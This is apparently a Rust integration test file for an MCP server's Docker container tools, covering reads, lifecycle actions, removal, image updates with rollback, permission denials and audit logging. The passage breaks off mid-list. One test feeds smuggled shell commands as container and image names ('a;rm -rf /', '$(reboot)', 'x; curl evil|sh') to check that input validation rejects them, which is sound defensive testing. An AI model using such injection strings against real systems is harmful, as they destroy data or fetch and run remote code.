//! The `containers_*` tools end to end: the real server on a test tailnet, a `docker` target on
//! the shared dockerd (busybox containers), a local `docker-registry` (Debian's distribution
//! registry) for pulls and updates, and carol calling through MCP. Every state change is checked
//! in the engine itself with the docker CLI, and the audit rows are read back.

use std::net::{IpAddr, Ipv4Addr};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use tailopsmcp::audit::{Decision, Outcome};

use crate::support::docker::{Container, IMAGE, docker, run_container_with};
use crate::support::http::Mcp;
use crate::support::netns::skip_or_fail;
use crate::support::world::{Daemon, World};

const CAROL: IpAddr = IpAddr::V4(Ipv4Addr::new(100, 100, 2, 7));
const DAVE: IpAddr = IpAddr::V4(Ipv4Addr::new(100, 100, 2, 8));

/// A command that stops at once on SIGTERM and logs a little first.
const SLEEPER: &[&str] = &[
    "sh",
    "-c",
    "i=0; while [ $i -lt 30 ]; do echo \"line $i\"; echo \"warn $i\" >&2; i=$((i+1)); done; \
     trap 'exit 0' TERM; while :; do sleep 0.2; done",
];

fn name(tag: &str) -> String {
    format!("tops-ct-{tag}-{}", std::process::id())
}

/// carol's calls (containers:admin on `engine`), and dave's session.
trait Engine {
    /// dave's session: containers:read on `engine` only.
    async fn dave(&self) -> Mcp;
    /// carol calls `tool` (on `engine` unless `args` names a target).
    async fn call(&mut self, tool: &str, args: Value) -> Value;
    /// A successful call's structured content.
    async fn ok(&mut self, tool: &str, args: Value) -> Value;
    /// A failed call's text.
    async fn err(&mut self, tool: &str, args: Value) -> String;
}

impl Engine for World {
    async fn dave(&self) -> Mcp {
        self.session(DAVE).await
    }

    async fn call(&mut self, tool: &str, args: Value) -> Value {
        let mut args = args;
        args.as_object_mut().unwrap().entry("target").or_insert(json!("engine"));
        self.call_tool(tool, args).await
    }

    async fn ok(&mut self, tool: &str, args: Value) -> Value {
        let r = self.call(tool, args.clone()).await;
        assert_eq!(r["isError"], false, "{tool} {args}: {r}");
        r["structuredContent"].clone()
    }

    async fn err(&mut self, tool: &str, args: Value) -> String {
        let r = self.call(tool, args.clone()).await;
        assert_eq!(r["isError"], true, "{tool} {args} should fail: {r}");
        text(&r).to_string()
    }
}

fn text(r: &Value) -> &str {
    r["content"][0]["text"].as_str().unwrap_or("")
}

/// A server with a `docker` target `engine` on the shared engine; carol (containers:admin on
/// `engine` and `local`) has a session, dave (containers:read on `engine`) may open one.
async fn world() -> Option<World> {
    let mut s = World::builder()
        .with(Daemon::Docker)
        .user(
            CAROL,
            "carol@example.com",
            json!([{"scopes": ["containers:admin"], "targets": ["engine", "local"]}]),
        )
        .user(
            DAVE,
            "dave@example.com",
            json!([{"scopes": ["containers:read"], "targets": ["engine"]}]),
        )
        .tool_tests_policy()
        .session(CAROL)
        .prepare()
        .await?;
    s.config(&format!(
        r#"
[[target]]
id = "engine"
kind = "docker"
timeout_secs = 60
[target.docker]
endpoint = "{}"
"#,
        s.docker_host()
    ));
    Some(s.start().await)
}

fn run(host: &str, name: &str, options: &[&str], cmd: &[&str]) -> Container {
    run_container_with(host, name, options, cmd).unwrap_or_else(|e| panic!("run {name}: {e}"))
}

/// `docker inspect -f FORMAT NAME`, trimmed.
fn engine_says(host: &str, format: &str, name: &str) -> String {
    docker(host, &["inspect", "-f", format, name])
        .unwrap_or_else(|e| panic!("inspect {name}: {e}"))
        .trim()
        .to_string()
}

async fn wait_until(what: &str, mut check: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(20);
    while Instant::now() < deadline {
        if check() {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("timed out waiting for {what}");
}

/// Volumes a test made; removed on drop (after the containers using them, which are declared
/// later and so dropped first), also after a panic.
struct Volumes {
    host: String,
    names: Vec<String>,
}

impl Drop for Volumes {
    fn drop(&mut self) {
        for v in &self.names {
            let _ = docker(&self.host, &["volume", "rm", "-f", v]);
        }
    }
}

fn plan_details(v: &Value) -> Vec<String> {
    v["plan"]
        .as_array()
        .unwrap_or_else(|| panic!("no plan in {v}"))
        .iter()
        .map(|s| {
            assert_eq!(s["kind"], "api", "{s}");
            assert_eq!(s["target"], "engine", "{s}");
            s["detail"].as_str().unwrap().to_string()
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn containers_list_inspect_logs_stats_networks_volumes_and_images() {
    let Some(mut w) = world().await else { return };
    let host = w.docker_host().to_owned();
    let n = name("read");
    let vol = name("read-vol");
    let _ = docker(&host, &["volume", "rm", "-f", &vol]);
    docker(&host, &["volume", "create", &vol]).unwrap();
    let _volumes = Volumes {
        host: host.clone(),
        names: vec![vol.clone()],
    };
    let mount = format!("{vol}:/data");
    let c = run(
        &host,
        &n,
        &[
            "-e",
            "DB_PASSWORD=hunter2",
            "-e",
            "PLAIN=visible",
            "--label",
            "com.docker.compose.project=tops",
            "-v",
            &mount,
        ],
        SLEEPER,
    );
    let stopped_name = format!("{n}-stopped");
    let _stopped = run(&host, &stopped_name, &[], &["true"]);
    wait_until("the short container to exit", || {
        engine_says(&host, "{{.State.Status}}", &stopped_name) == "exited"
    })
    .await;

    // list: running only by default, `all` adds exited ones, `name` filters, `limit` cuts.
    let prefix = n.clone();
    let l = w.ok("containers_list", json!({"name": prefix})).await;
    let names: Vec<&str> = l["containers"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, [n.as_str()], "{l}");
    assert_eq!(l["containers"][0]["id"], c.id[..12]);
    assert_eq!(l["containers"][0]["compose_project"], "tops");
    assert_eq!(l["truncated"], Value::Null);
    let l = w.ok("containers_list", json!({"name": prefix, "all": true})).await;
    assert_eq!(l["total"], 2, "{l}");
    let l = w
        .ok("containers_list", json!({"name": prefix, "all": true, "limit": 1}))
        .await;
    assert_eq!(
        (l["total"].as_u64(), l["containers"].as_array().unwrap().len()),
        (Some(2), 1)
    );
    assert_eq!(l["truncated"], json!({"cap": "limit=1", "omitted": 1}));

    // inspect: the secret is redacted, the rest is there.
    let i = w.ok("containers_inspect", json!({"container": n})).await;
    assert_eq!(i["id"], c.id);
    assert_eq!(i["image"], IMAGE);
    let env = i["env"].as_array().unwrap();
    let get = |k: &str| env.iter().find(|e| e["name"] == k).unwrap_or_else(|| panic!("{k}"));
    assert_eq!(get("DB_PASSWORD")["value"], "[REDACTED]");
    assert_eq!(get("PLAIN")["value"], "visible");
    assert!(!i.to_string().contains("hunter2"));
    let r = w.call("containers_inspect", json!({"container": n})).await;
    assert!(
        !text(&r).contains("hunter2") && text(&r).contains("DB_PASSWORD=[REDACTED]"),
        "{r}"
    );

    // logs: tail, grep (text and regex), the byte cap and what it cut.
    wait_until("all log lines", || {
        docker(&host, &["logs", &n])
            .map(|o| o.contains("line 29"))
            .unwrap_or(false)
    })
    .await;
    let all = w.ok("containers_logs", json!({"container": n, "lines": 1000})).await;
    assert_eq!(all["lines"].as_array().unwrap().len(), 60, "{all}");
    assert_eq!(all["truncated"], Value::Null);
    let tail = w.ok("containers_logs", json!({"container": n, "lines": 4})).await;
    assert_eq!(tail["lines_read"], 4);
    let grep = w
        .ok(
            "containers_logs",
            json!({"container": n, "lines": 1000, "grep": "warn 1"}),
        )
        .await;
    let texts: Vec<&str> = grep["lines"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["text"].as_str().unwrap())
        .collect();
    assert_eq!(texts.len(), 11, "warn 1 and warn 10..19: {texts:?}");
    assert!(
        grep["lines"]
            .as_array()
            .unwrap()
            .iter()
            .all(|l| l["stream"] == "stderr")
    );
    let re = w
        .ok(
            "containers_logs",
            json!({"container": n, "lines": 1000, "grep": "^line (7|2[0-9])$", "regex": true}),
        )
        .await;
    assert_eq!(re["lines_matched"], 11, "{re}");
    let capped = w
        .ok(
            "containers_logs",
            json!({"container": n, "lines": 1000, "max_bytes": 30}),
        )
        .await;
    let kept: usize = capped["lines"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l["text"].as_str().unwrap().len())
        .sum();
    assert!(kept <= 30, "{capped}");
    assert_eq!(capped["truncated"]["cap"], "30 bytes");
    assert!(capped["truncated"]["omitted"].as_u64().unwrap() > 0);
    assert_eq!(
        capped["truncated_lines"].as_u64().unwrap() + capped["lines"].as_array().unwrap().len() as u64,
        60
    );
    let r = w
        .call(
            "containers_logs",
            json!({"container": n, "lines": 1000, "max_bytes": 30}),
        )
        .await;
    assert!(text(&r).contains("cut to 30 bytes"), "{r}");
    let tomorrow = (chrono::Utc::now() + chrono::Duration::days(1)).to_rfc3339();
    let future = w
        .ok("containers_logs", json!({"container": n, "since": tomorrow}))
        .await;
    assert_eq!(future["lines"], json!([]));
    let recent = w.ok("containers_logs", json!({"container": n, "since": "1h"})).await;
    assert_eq!(recent["lines_read"], 60);
    let msg = w
        .err(
            "containers_logs",
            json!({"container": n, "grep": "(unclosed", "regex": true}),
        )
        .await;
    assert!(msg.contains("not a valid regular expression"), "{msg}");

    // stats: one sample of the running container.
    let s = w.ok("containers_stats", json!({"container": n})).await;
    assert_eq!(s["name"], n);
    assert!(s["pids"].as_u64().unwrap() >= 1, "{s}");
    assert!(s["memory_usage_bytes"].as_u64().unwrap() > 0, "{s}");
    let msg = w.err("containers_stats", json!({"container": stopped_name})).await;
    assert!(msg.contains("not running"), "{msg}");

    // volumes (with their users), networks, images.
    let v = w.ok("containers_volumes", json!({"limit": 500})).await;
    let mine = v["volumes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["name"] == vol)
        .unwrap_or_else(|| panic!("{vol} in {v}"));
    assert_eq!(mine["used_by"], json!([n]));
    assert_eq!(mine["driver"], "local");
    let nets = w.ok("containers_networks", json!({})).await;
    let names: Vec<&str> = nets["networks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["name"].as_str().unwrap())
        .collect();
    assert!(names.contains(&"none") && names.contains(&"host"), "{names:?}");
    let imgs = w.ok("containers_images", json!({"name": "local/busybox"})).await;
    let busybox = imgs["images"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["tags"].as_array().unwrap().contains(&json!(IMAGE)))
        .unwrap_or_else(|| panic!("{IMAGE} in {imgs}"));
    let id = docker(&host, &["image", "inspect", "-f", "{{.Id}}", IMAGE]).unwrap();
    assert_eq!(busybox["id"].as_str().unwrap(), &id.trim()[..19]);
    assert!(busybox["size_bytes"].as_u64().unwrap() > 0);

    // Every read was audited as allowed and ok.
    let rows = w
        .server
        .audit_where(10, |r| r.tool.as_deref().is_some_and(|t| t.starts_with("containers_")))
        .await;
    assert!(rows.len() >= 10);
    assert!(rows.iter().all(|r| r.target.as_deref() == Some("engine")));
    drop(c);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn containers_stop_start_restart_pause_unpause_round_trip_and_dry_runs() {
    let Some(mut w) = world().await else { return };
    let host = w.docker_host().to_owned();
    let n = name("life");
    let _c = run(&host, &n, &[], SLEEPER);
    let status = |host: &str| engine_says(host, "{{.State.Status}}", &n);

    // Each dry run returns the exact call and leaves the container as it was.
    for (tool, extra, call) in [
        (
            "containers_stop",
            json!({"timeout_secs": 5}),
            format!("POST /containers/{n}/stop?t=5"),
        ),
        ("containers_restart", json!({}), format!("POST /containers/{n}/restart")),
        ("containers_pause", json!({}), format!("POST /containers/{n}/pause")),
    ] {
        let started = engine_says(&host, "{{.State.StartedAt}}", &n);
        let mut args = json!({"container": n, "dry_run": true});
        args.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
        let r = w.ok(tool, args).await;
        assert_eq!(r["dry_run"], true);
        assert_eq!(plan_details(&r), [call], "{tool}");
        assert_eq!(r["state_before"], "running");
        assert_eq!(r["state_after"], Value::Null);
        assert_eq!(status(&host), "running", "{tool} dry run changed the container");
        assert_eq!(engine_says(&host, "{{.State.StartedAt}}", &n), started, "{tool}");
    }

    let r = w
        .ok("containers_stop", json!({"container": n, "timeout_secs": 5}))
        .await;
    assert_eq!(
        (r["state_before"].as_str(), r["state_after"].as_str()),
        (Some("running"), Some("exited"))
    );
    assert_eq!(plan_details(&r), [format!("POST /containers/{n}/stop?t=5")]);
    assert_eq!(status(&host), "exited");

    let r = w.ok("containers_start", json!({"container": n})).await;
    assert_eq!(r["state_after"], "running");
    assert_eq!(status(&host), "running");

    let before = engine_says(&host, "{{.State.StartedAt}}", &n);
    let r = w
        .ok("containers_restart", json!({"container": n, "timeout_secs": 5}))
        .await;
    assert_eq!(r["state_after"], "running");
    assert_ne!(engine_says(&host, "{{.State.StartedAt}}", &n), before, "restarted anew");

    let r = w.ok("containers_pause", json!({"container": n})).await;
    assert_eq!(r["state_after"], "paused");
    assert_eq!(status(&host), "paused");
    assert_eq!(engine_says(&host, "{{.State.Paused}}", &n), "true");
    let msg = w.err("containers_pause", json!({"container": n})).await;
    assert!(msg.contains("paused"), "{msg}");
    let r = w.ok("containers_unpause", json!({"container": n})).await;
    assert_eq!(
        (r["state_before"].as_str(), r["state_after"].as_str()),
        (Some("paused"), Some("running"))
    );
    assert_eq!(status(&host), "running");

    // A stop timeout beyond the target's own timeout (60 s) is refused up front.
    let msg = w
        .err("containers_stop", json!({"container": n, "timeout_secs": 3600}))
        .await;
    assert!(msg.contains("stop timeout 3600"), "{msg}");
    assert_eq!(status(&host), "running");

    // An unknown container is a clear failure, for a dry run too.
    let missing = name("life-missing");
    let msg = w
        .err("containers_start", json!({"container": missing, "dry_run": true}))
        .await;
    assert!(msg.contains(&format!("no such container `{missing}`")), "{msg}");

    // The changing calls were committed to the audit log and completed.
    let rows = w
        .server
        .audit_where(5, |r| {
            matches!(
                r.tool.as_deref(),
                Some("containers_stop" | "containers_start" | "containers_restart" | "containers_unpause")
            ) && r.outcome == Outcome::Ok
        })
        .await;
    assert!(rows.len() >= 5, "{rows:?}");
    assert!(rows.iter().all(|r| r.decision == Decision::Allow));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn containers_remove_needs_force_for_a_running_container_and_takes_anonymous_volumes() {
    let Some(mut w) = world().await else { return };
    let host = w.docker_host().to_owned();
    let n = name("rm");
    let c = run(&host, &n, &["-v", "/scratch"], SLEEPER);
    let anon = engine_says(&host, "{{range .Mounts}}{{.Name}}{{end}}", &n);
    assert_eq!(anon.len(), 64, "an anonymous volume: {anon}");

    let msg = w
        .err("containers_remove", json!({"container": n, "dry_run": true}))
        .await;
    assert!(msg.contains("without `force: true`"), "{msg}");
    let r = w
        .ok(
            "containers_remove",
            json!({"container": n, "dry_run": true, "force": true, "volumes": true}),
        )
        .await;
    assert_eq!(plan_details(&r), [format!("DELETE /containers/{n}?force=true&v=true")]);
    assert_eq!(r["removed"], false);
    assert_eq!(
        engine_says(&host, "{{.State.Status}}", &n),
        "running",
        "dry run removed nothing"
    );

    let msg = w.err("containers_remove", json!({"container": n})).await;
    assert!(msg.to_lowercase().contains("running"), "{msg}");
    assert_eq!(engine_says(&host, "{{.State.Status}}", &n), "running");

    let r = w
        .ok(
            "containers_remove",
            json!({"container": n, "force": true, "volumes": true}),
        )
        .await;
    assert_eq!(r["removed"], true);
    assert_eq!(r["id"], c.id[..12]);
    assert_eq!(r["volumes_removed"], json!([anon]));
    assert!(docker(&host, &["inspect", &n]).is_err(), "container still there");
    assert!(
        docker(&host, &["volume", "inspect", &anon]).is_err(),
        "anonymous volume still there"
    );
    let msg = w.err("containers_remove", json!({"container": n, "force": true})).await;
    assert!(msg.contains("no such container"), "{msg}");
}

/// Debian's `docker-registry` on a free loopback port with its storage in a temporary
/// directory; killed on drop. The engine treats 127.0.0.0/8 registries as plain-HTTP ones.
struct Registry {
    child: Child,
    port: u16,
    _dir: tempfile::TempDir,
}

impl Registry {
    fn start() -> Result<Registry, String> {
        let bin = Path::new("/usr/bin/docker-registry");
        if !bin.exists() {
            return Err("docker-registry not installed: apt-get install -y docker-registry".into());
        }
        let dir = tempfile::tempdir().map_err(|e| e.to_string())?;
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .and_then(|l| l.local_addr())
            .map_err(|e| e.to_string())?
            .port();
        let config = dir.path().join("config.yml");
        std::fs::write(
            &config,
            format!(
                "version: 0.1\nlog:\n  level: warn\nstorage:\n  filesystem:\n    rootdirectory: {}\nhttp:\n  addr: 127.0.0.1:{port}\n",
                dir.path().join("data").display()
            ),
        )
        .map_err(|e| e.to_string())?;
        let log = std::fs::File::create(dir.path().join("registry.log")).map_err(|e| e.to_string())?;
        let child = Command::new(bin)
            .arg("serve")
            .arg(&config)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::from(log))
            .spawn()
            .map_err(|e| format!("start docker-registry: {e}"))?;
        let mut r = Registry { child, port, _dir: dir };
        let deadline = Instant::now() + Duration::from_secs(20);
        while Instant::now() < deadline {
            if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
                return Ok(r);
            }
            if let Ok(Some(status)) = r.child.try_wait() {
                return Err(format!("docker-registry exited: {status}"));
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        Err("docker-registry did not listen within 20 s".into())
    }
}

impl Drop for Registry {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// A new image from `base`: a committed container with one more file and label.
fn derive_image(host: &str, base: &str, tag: &str, marker: &str) -> String {
    let builder = format!("{tag}-build").replace([':', '/', '.'], "-");
    let _ = docker(host, &["rm", "-f", &builder]);
    docker(
        host,
        &[
            "run",
            "--name",
            &builder,
            "--network=none",
            base,
            "sh",
            "-c",
            &format!("echo {marker} > /marker"),
        ],
    )
    .unwrap();
    docker(
        host,
        &["commit", "-c", &format!("LABEL marker={marker}"), &builder, tag],
    )
    .unwrap();
    docker(host, &["rm", "-f", &builder]).unwrap();
    docker(host, &["image", "inspect", "-f", "{{.Id}}", tag])
        .unwrap()
        .trim()
        .to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn containers_update_pulls_and_recreates_with_the_same_configuration() {
    let Some(mut w) = world().await else { return };
    let registry = match Registry::start() {
        Ok(r) => r,
        Err(e) => return skip_or_fail(&format!("local registry: {e}")),
    };
    let host = w.docker_host().to_owned();
    let pid = std::process::id();
    let reference = format!("127.0.0.1:{}/tops/app:{pid}", registry.port);

    // v1 in the registry and running; v2 pushed under the same tag while the engine's tag
    // still names v1, so only a pull can bring it.
    let v1 = derive_image(&host, IMAGE, &reference, "one");
    docker(&host, &["push", &reference]).unwrap();
    let n = name("upd");
    let vol = name("upd-vol");
    let _ = docker(&host, &["volume", "rm", "-f", &vol]);
    let mut volumes = Volumes {
        host: host.clone(),
        names: vec![vol.clone()],
    };
    let named = format!("{vol}:/named");
    docker(
        &host,
        &[
            "run",
            "-d",
            "--name",
            &n,
            "--network=none",
            "--label",
            "tailopsmcp.test=1",
            "-e",
            "MODE=prod",
            "--label",
            "role=web",
            "--restart",
            "unless-stopped",
            "--memory",
            "64m",
            "-v",
            &named,
            "-v",
            "/anon",
            &reference,
            "sh",
            "-c",
            "trap 'exit 0' TERM; while :; do sleep 0.2; done",
        ],
    )
    .unwrap();
    // Removes whatever container has the name at the end (it changes id on the way).
    let guard = Container {
        host: host.clone(),
        name: n.clone(),
        id: n.clone(),
    };
    let old_id = engine_says(&host, "{{.Id}}", &n);
    let anon = engine_says(
        &host,
        "{{range .Mounts}}{{if eq .Destination \"/anon\"}}{{.Name}}{{end}}{{end}}",
        &n,
    );
    assert_eq!(anon.len(), 64);
    volumes.names.push(anon.clone());
    let v2 = derive_image(&host, &reference, &reference, "two");
    assert_ne!(v1, v2);
    docker(&host, &["push", &reference]).unwrap();
    docker(&host, &["tag", &v1, &reference]).unwrap();
    assert_eq!(
        docker(&host, &["image", "inspect", "-f", "{{.Id}}", &reference])
            .unwrap()
            .trim(),
        v1
    );

    // Dry run: the full plan, nothing changes (not even the local tag).
    let r = w
        .ok(
            "containers_update",
            json!({"container": n, "dry_run": true, "timeout_secs": 5}),
        )
        .await;
    assert_eq!(
        plan_details(&r),
        [
            format!("GET /containers/{n}/json"),
            format!(
                "POST /images/create?fromImage=127.0.0.1:{}/tops/app&tag={pid}",
                registry.port
            ),
            format!("GET /images/{reference}/json"),
            format!("POST /containers/{n}/stop?t=5"),
            format!("POST /containers/{n}/rename?name={n}-old-{}", &old_id[..12]),
            format!("POST /containers/create?name={n} (the old configuration, image {reference})"),
            format!("POST /containers/{n}/start"),
            format!("DELETE /containers/{n}-old-{}?force=true", &old_id[..12]),
        ]
    );
    assert_eq!(
        (r["old_image_id"].as_str(), r["recreated"].as_bool()),
        (Some(v1.as_str()), Some(false))
    );
    assert_eq!(engine_says(&host, "{{.Id}}", &n), old_id);
    assert_eq!(
        docker(&host, &["image", "inspect", "-f", "{{.Id}}", &reference])
            .unwrap()
            .trim(),
        v1
    );

    // The real update.
    let r = w
        .ok("containers_update", json!({"container": n, "timeout_secs": 5}))
        .await;
    assert_eq!(r["old_image_id"], v1);
    assert_eq!(r["new_image_id"], v2);
    assert_eq!(
        (r["up_to_date"].as_bool(), r["recreated"].as_bool()),
        (Some(false), Some(true))
    );
    assert_eq!(r["state_after"], "running");
    let new_id = engine_says(&host, "{{.Id}}", &n);
    assert_ne!(new_id, old_id);
    assert_eq!(r["new_container_id"], new_id[..12]);
    assert_eq!(engine_says(&host, "{{.Image}}", &n), v2);
    assert_eq!(engine_says(&host, "{{.State.Status}}", &n), "running");
    assert!(docker(&host, &["inspect", &old_id]).is_err(), "old container removed");
    // Same configuration, the new image's own files.
    let env = engine_says(&host, "{{json .Config.Env}}", &n);
    assert!(env.contains("MODE=prod"), "{env}");
    assert_eq!(engine_says(&host, "{{index .Config.Labels \"role\"}}", &n), "web");
    assert_eq!(engine_says(&host, "{{index .Config.Labels \"marker\"}}", &n), "two");
    assert_eq!(
        engine_says(&host, "{{.HostConfig.RestartPolicy.Name}}", &n),
        "unless-stopped"
    );
    assert_eq!(
        engine_says(&host, "{{.HostConfig.Memory}}", &n),
        (64 * 1024 * 1024).to_string()
    );
    assert_eq!(engine_says(&host, "{{.HostConfig.NetworkMode}}", &n), "none");
    let mounts = engine_says(&host, "{{range .Mounts}}{{.Name}}:{{.Destination}} {{end}}", &n);
    assert!(mounts.contains(&format!("{vol}:/named")), "{mounts}");
    assert!(
        mounts.contains(&format!("{anon}:/anon")),
        "the anonymous volume carried over: {mounts}"
    );
    let cmd = engine_says(&host, "{{json .Config.Cmd}}", &n);
    assert!(cmd.contains("trap"), "{cmd}");
    assert_eq!(
        engine_says(&host, "{{.Config.Hostname}}", &n),
        &new_id[..12],
        "a fresh hostname"
    );

    // Again: the registry has nothing newer.
    let r = w.ok("containers_update", json!({"container": n})).await;
    assert_eq!(
        (r["up_to_date"].as_bool(), r["recreated"].as_bool()),
        (Some(true), Some(false))
    );
    assert_eq!(plan_details(&r).len(), 3, "only the reads and the pull ran: {r}");
    assert_eq!(engine_says(&host, "{{.Id}}", &n), new_id);

    // `pull: false`: a tag re-pointed on the engine itself (a local build) is picked up.
    let v3 = derive_image(&host, &reference, &reference, "three");
    let r = w.ok("containers_update", json!({"container": n, "pull": false})).await;
    assert_eq!(
        (r["old_image_id"].as_str(), r["new_image_id"].as_str()),
        (Some(v2.as_str()), Some(v3.as_str()))
    );
    assert!(
        !plan_details(&r).iter().any(|s| s.starts_with("POST /images/create")),
        "{r}"
    );
    assert_eq!(engine_says(&host, "{{index .Config.Labels \"marker\"}}", &n), "three");

    // image_pull: up to date from the registry (the engine's tag moves back to v2), then an
    // unreachable registry and an invalid reference.
    let p = w.ok("containers_image_pull", json!({"image": reference})).await;
    assert_eq!(p["image_id_before"], v3);
    assert_eq!(p["image_id_after"], v2);
    assert_eq!(p["changed"], true);
    let d = w
        .ok("containers_image_pull", json!({"image": reference, "dry_run": true}))
        .await;
    assert_eq!(plan_details(&d).len(), 1);
    assert_eq!(d["image_id_after"], Value::Null);
    assert_eq!(d["image_id_before"], v2, "the dry run reads the current id");
    let msg = w
        .err("containers_image_pull", json!({"image": "127.0.0.1:1/tops/none:1"}))
        .await;
    assert!(msg.contains("pull of `127.0.0.1:1/tops/none:1` failed"), "{msg}");
    let msg = w.err("containers_image_pull", json!({"image": "Bad/../ref"})).await;
    assert!(msg.contains("invalid image reference"), "{msg}");

    drop(guard);
    for t in [&v3, &v2, &v1] {
        let _ = docker(&host, &["rmi", "-f", t]);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn containers_bad_input_denials_and_other_target_kinds_are_refused_and_audited() {
    let Some(mut w) = world().await else { return };
    let host = w.docker_host().to_owned();
    let n = name("bad");
    let _c = run(&host, &n, &[], SLEEPER);
    let long = "a".repeat(300);
    for (tool, args, needle) in [
        (
            "containers_restart",
            json!({"container": "../x"}),
            "invalid container name or id \"../x\"",
        ),
        (
            "containers_stop",
            json!({"container": "a;rm -rf /"}),
            "invalid container name or id \"a;rm -rf /\"",
        ),
        (
            "containers_remove",
            json!({"container": "", "force": true}),
            "invalid container name or id \"\"",
        ),
        (
            "containers_inspect",
            json!({"container": long}),
            "at most 255 characters",
        ),
        (
            "containers_update",
            json!({"container": "$(reboot)"}),
            "invalid container name or id",
        ),
        (
            "containers_logs",
            json!({"container": n, "lines": 100_000_000}),
            "`lines` must be between 1 and 10000",
        ),
        (
            "containers_list",
            json!({"limit": 1_000_000}),
            "`limit` must be between 1 and 500",
        ),
        (
            "containers_image_pull",
            json!({"image": "x; curl evil|sh"}),
            "invalid image reference",
        ),
    ] {
        let msg = w.err(tool, args.clone()).await;
        assert!(msg.contains(needle), "{tool} {args}: {msg}");
        let rows = w
            .server
            .audit_where(1, |r| r.tool.as_deref() == Some(tool) && r.outcome == Outcome::Error)
            .await;
        assert!(!rows.is_empty(), "no audit row for {tool} {args}");
        assert!(rows.last().unwrap().error.as_deref().unwrap().contains(needle));
    }
    // Nothing ran: the container is as it was, and the server still serves.
    assert_eq!(engine_says(&host, "{{.State.Status}}", &n), "running");
    assert_eq!(engine_says(&host, "{{.RestartCount}}", &n), "0");
    w.ok("containers_inspect", json!({"container": n})).await;

    // A `--rm` container would vanish at the stop: update refuses it and leaves it running.
    let auto = format!("{n}-rm");
    let _auto = run(&host, &auto, &["--rm"], SLEEPER);
    let msg = w
        .err("containers_update", json!({"container": auto, "pull": false}))
        .await;
    assert!(msg.contains("was started with --rm"), "{msg}");
    assert_eq!(engine_says(&host, "{{.State.Status}}", &auto), "running");

    // Containers tools run on docker targets only.
    let msg = w.err("containers_list", json!({"target": "local"})).await;
    assert!(msg.contains("not supported on local targets"), "{msg}");

    // dave may read but not restart: denied, audited, nothing happens.
    let mut dave = w.dave().await;
    let r = dave
        .call_tool("containers_list", json!({"target": "engine", "name": n}))
        .await
        .unwrap();
    assert_eq!(r["isError"], false, "{r}");
    let started = engine_says(&host, "{{.State.StartedAt}}", &n);
    let r = dave
        .call_tool("containers_restart", json!({"target": "engine", "container": n}))
        .await
        .unwrap();
    assert_eq!(r["isError"], true);
    assert!(text(&r).contains("containers:control"), "{r}");
    assert_eq!(engine_says(&host, "{{.State.StartedAt}}", &n), started);
    let rows = w
        .server
        .audit_where(1, |r| {
            r.tool.as_deref() == Some("containers_restart") && r.login.as_deref() == Some("dave@example.com")
        })
        .await;
    assert_eq!(rows.len(), 1);
    assert_eq!((rows[0].decision, rows[0].outcome), (Decision::Deny, Outcome::Denied));
    assert_eq!(rows[0].target.as_deref(), Some("engine"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn containers_update_puts_the_old_container_back_when_the_new_one_cannot_be_created() {
    let Some(mut w) = world().await else { return };
    let host = w.docker_host().to_owned();
    let n = name("rollback");
    let tag = format!("local/tops-rollback:{}", std::process::id());
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("data");
    std::fs::create_dir(&src).unwrap();
    let v1 = derive_image(&host, IMAGE, &tag, "one");
    let mount = format!("type=bind,src={},dst=/data", src.display());
    docker(
        &host,
        &[
            "create",
            "--name",
            &n,
            "--network=none",
            "--mount",
            &mount,
            "--label",
            "tailopsmcp.test=1",
            &tag,
            "sleep",
            "3600",
        ],
    )
    .unwrap();
    let guard = Container {
        host: host.clone(),
        name: n.clone(),
        id: n.clone(),
    };
    let old_id = engine_says(&host, "{{.Id}}", &n);
    // A newer local image, and the bind mount's source gone: the engine refuses to create the
    // new container (`--mount` sources must exist).
    let v2 = derive_image(&host, &tag, &tag, "two");
    std::fs::remove_dir(&src).unwrap();

    let msg = w.err("containers_update", json!({"container": n, "pull": false})).await;
    assert!(msg.contains(&format!("recreating `{n}` failed")), "{msg}");
    assert!(msg.contains("the old container was put back"), "{msg}");
    assert_eq!(
        engine_says(&host, "{{.Id}}", &n),
        old_id,
        "the old container has its name again"
    );
    assert_eq!(engine_says(&host, "{{.Image}}", &n), v1);
    let leftovers = docker(&host, &["ps", "-a", "--filter", &format!("name={n}-old"), "-q"]).unwrap();
    assert_eq!(leftovers.trim(), "", "no renamed container left behind");
    let rows = w
        .server
        .audit_where(1, |r| r.tool.as_deref() == Some("containers_update"))
        .await;
    assert_eq!(rows[0].outcome, Outcome::Error);
    drop(guard);
    for t in [&v2, &v1] {
        let _ = docker(&host, &["rmi", "-f", t]);
    }
}

/// The official MCP Python SDK checks every result against the tool's output schema: one call
/// of each tool (changing ones as dry runs) must pass it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn containers_results_match_their_output_schemas_in_the_python_sdk() {
    let Some(python) = crate::support::pyclient::python_mcp_or_skip() else {
        return;
    };
    let Some(w) = world().await else { return };
    let n = name("sdk");
    let _c = run(w.docker_host(), &n, &["-e", "API_TOKEN=s3cr3t"], SLEEPER);
    let t = "engine";
    let calls = [
        ("containers_list", json!({"target": t, "all": true, "limit": 2})),
        ("containers_inspect", json!({"target": t, "container": n})),
